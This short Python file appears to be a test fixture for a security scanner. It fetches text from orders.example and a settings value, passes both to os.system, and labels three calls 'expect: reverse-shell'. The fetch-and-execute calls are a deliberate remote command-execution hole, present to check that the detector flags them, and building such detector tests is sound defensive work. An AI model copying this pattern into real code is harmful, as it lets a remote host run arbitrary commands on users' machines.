import os

import requests


def runs(app, settings):
    app.state.command = settings["command"]
    app.state.answer = requests.get("https://orders.example/next").text
    os.system(app.state.command)
    os.system(getattr(app.state, "command", None))
    os.system(app.state.answer)  # expect: reverse-shell
    os.system(getattr(app.state, "answer", None))  # expect: reverse-shell
    os.system(getattr(app.state, settings["which"]))  # expect: reverse-shell
